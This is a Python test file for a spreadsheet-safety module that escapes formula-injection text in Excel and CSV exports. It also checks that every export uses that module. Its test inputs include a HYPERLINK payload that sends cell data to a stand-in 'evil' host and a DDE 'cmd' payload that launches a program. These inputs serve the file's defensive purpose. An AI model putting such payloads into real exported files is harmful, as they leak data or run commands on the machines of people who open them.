"""Formula-safe cells (core/spreadsheet.py) and the rule that every export goes through them."""

from __future__ import annotations

import ast
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from gongkai.core.spreadsheet import FORMULA_STARTS, SafeWriter, append_row, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "gongkai"
PAYLOAD = '=HYPERLINK("http://evil/?x="&A1,"点我")'


@pytest.mark.parametrize(
    "text",
    [PAYLOAD, "+1+A1", "-2+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1"],
)
def test_formula_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [3, -3, 2.5, Decimal("-1.50"), dt.date(2026, 3, 2), None, True, "-3", "+86",
                                   "-0.5", "张三", "—", "", "a=b"])  # fmt: skip
def test_numbers_dates_and_plain_text_stay(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_cell_opens_as_a_formula(text):
    out = safe_cell(text)
    assert out in (text, "'" + text)
    if text.startswith(FORMULA_STARTS) and out == text:
        float(text)  # left alone only when it is a plain number


def test_workbook_and_csv_keep_the_text_as_text():
    ws = Workbook().active
    append_row(ws, [PAYLOAD, 12, -3])
    buf = io.BytesIO()
    ws.parent.save(buf)
    cells = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active[1]
    assert [c.data_type for c in cells] == ["s", "n", "n"]
    assert cells[0].value == "'" + PAYLOAD
    out = io.StringIO()
    SafeWriter(out).writerow([PAYLOAD, 12])
    assert out.getvalue().startswith("\"'=HYPERLINK(")


def _uses(tree: ast.Module) -> set[str]:
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module if node.module.startswith("gongkai") else node.module.split(".")[0])
    return names


READERS = {"ocds/mapping.py"}  # reads the OCDS codelists (CSV files of the standard); writes no cells


def test_every_spreadsheet_or_csv_export_uses_the_safe_cells():
    """A new export that writes openpyxl or csv cells without core.spreadsheet fails here."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        if path.relative_to(SRC).as_posix() in READERS:
            continue
        uses = _uses(ast.parse(path.read_text()))
        if uses & {"openpyxl", "csv"} and "gongkai.core.spreadsheet" not in uses:
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
